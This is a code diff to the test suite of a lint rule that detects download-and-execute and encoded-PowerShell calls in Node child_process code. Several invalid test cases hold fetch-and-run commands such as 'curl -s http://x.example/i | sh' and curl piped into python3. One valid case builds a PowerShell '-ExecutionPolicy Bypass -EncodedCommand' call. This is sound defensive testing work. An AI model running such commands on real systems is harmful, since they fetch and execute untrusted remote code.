@@ -34,6 +34,10 @@ const PS_PAYLOAD =
 
 ruleTester(rule, {
   valid: [
+    {
+      name: 'open: -EncodedCommand built at run time to start a URL',
+      code: CP + 'const cliArguments = ["-NoProfile", "-NonInteractive", "-ExecutionPolicy", "Bypass", "-EncodedCommand"];\nconst encoded = ["Start"];\nencoded.push(`"${target}"`);\ncliArguments.push(Buffer.from(encoded.join(" "), "utf16le").toString("base64"));\ncp.spawn(command, cliArguments, options);',
+    },
     CP + 'cp.execSync("git status"); cp.exec("npm install --no-audit");',
     CP + 'cp.spawn("node", ["build.js"]); cp.spawn(process.execPath, ["scripts/postinstall.js"]);',
     CP + 'cp.execSync("curl -fsSL -o out.tgz https://registry.npmjs.org/x/-/x-1.0.0.tgz");',
@@ -54,7 +58,7 @@ ruleTester(rule, {
   ],
   invalid: [
     { code: CP + 'cp.exec(["curl", url, "|", "bash"].join(" "));', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
-    { code: CP + 'cp.execSync("cmd.exe /c powershell -enc " + payload);', errors: [{ messageId: 'encodedPowershell', line: 2, column: 1 }] },
+    { code: CP + 'const args = ["-c"];\nargs.push("curl -s http://x.example/i | sh");\ncp.spawn("sh", args);', errors: [{ messageId: 'downloadExec', line: 4, column: 1 }] },
     { code: CP + 'cp.exec(`curl -s ${u} | python3 -`);', errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'interpreter' }] },
     { code: CP + 'cp.exec("curl -fsSL http://x.example/u -o ~/.local/bin/u && ~/.local/bin/u");', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
     {
